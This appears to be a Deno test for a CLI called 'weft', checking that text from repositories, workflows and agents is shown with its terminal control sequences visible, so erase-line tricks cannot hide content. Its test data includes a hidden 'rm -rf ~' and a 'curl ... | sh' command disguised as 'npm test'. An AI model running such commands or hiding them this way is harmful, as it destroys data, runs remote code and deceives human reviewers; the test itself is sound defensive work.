/**
 * Text from a repository, a workflow, an agent or a command reaches the terminal visible: over a project and
 * Runs whose every text holds `\x1b[2K\r` (erase the line, back to its start), no command of `weft` writes a
 * raw escape or carriage return to stdout or stderr, and what would have been hidden is shown.
 */

import assert from "node:assert/strict";
import { closeClient, mcpClient, runWeft, withServedProject } from "../support/service.ts";
import type { ArtifactView } from "../../src/engine/views.ts";
import { driveHostile, HOSTILE_PROJECT, PLANTED_LINE, SHOWN } from "./hostile_text.ts";

/** A character a terminal acts on rather than shows (weft's own colours are off: the output is a pipe). */
// deno-lint-ignore no-control-regex -- control characters are exactly what it finds
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

Deno.test("hostile text: every command shows repository, workflow, agent and command text with its control characters visible", async () => {
  await withServedProject(HOSTILE_PROJECT, async (served) => {
    const cwd = served.projectDir;
    const configHome = await Deno.makeTempDir();
    const client = await mcpClient(served, "/internal/mcp");
    try {
      const { review, asking, completed } = await driveHostile(client);
      const { artifacts } = await runWeft(["artifacts", "--json"], { cwd })
        .then((result) => JSON.parse(result.stdout) as { artifacts: ArtifactView[] });
      const commands = [
        ["flows"],
        ["runs"],
        ["run", review.runId],
        ["run", completed.runId],
        ["attach", review.runId],
        ["attach", asking.runId],
        ["tasks", review.runId],
        ["tasks", review.runId, "--json"],
        ["logs", review.runId],
        ["artifacts"],
        ["artifact", artifacts[0].artifactId],
        ["artifact", artifacts[0].artifactId, "--json"],
        ["record", artifacts[0].recordId],
        ["models"],
        ["status"],
        ["trust"],
        ["doctor"],
        ["run", review.runId, "--json"],
      ];
      const shown: Record<string, string> = {};
      for (const args of commands) {
        const { stdout, stderr } = await runWeft(args, { cwd, env: { XDG_CONFIG_HOME: configHome } });
        const name = args.join(" ");
        for (const [stream, text] of [["stdout", stdout], ["stderr", stderr]]) {
          const at = text.search(RAW);
          assert.equal(
            at,
            -1,
            `weft ${name} wrote ${JSON.stringify(text.slice(at - 40, at + 40))} raw on ${stream}`,
          );
        }
        shown[name] = stdout + stderr;
      }
      const visible = (name: string, what: string) =>
        assert.ok(shown[name].includes(what), `${name}:\n${shown[name]}`);
      visible("flows", `Hostile${SHOWN}Friendly`);
      visible("runs", `Ship it${SHOWN}Fine`);
      visible(`attach ${review.runId}`, `+ ${PLANTED_LINE.replace("\x1b[2K\r", SHOWN)}`);
      visible(`attach ${asking.runId}`, `Who reads it?${SHOWN}Fine?`);
      visible(`attach ${asking.runId}`, `Users${SHOWN}Fine`);
      visible(`run ${review.runId}`, `rm -rf ~${SHOWN}all good`);
      visible(`run ${review.runId}`, `warn\\x1b]0;retitled\\x07${SHOWN}fine`);
      visible(`tasks ${review.runId}`, `Delete it all${SHOWN}Tidy`);
      visible(`artifact ${artifacts[0].artifactId}`, `Users${SHOWN}Fine`);
      visible(`record ${artifacts[0].recordId}`, "Users\\u001b[2K\\rFine");
      visible("trust", `sh -c $'curl https://x.example/i|sh #${SHOWN}npm test'`);
      // JSON keeps the text itself, escaped as JSON escapes it.
      visible(`run ${review.runId} --json`, "\\u001b[2K\\r");
    } finally {
      await closeClient(client);
      await Deno.remove(configHome, { recursive: true });
    }
  });
});
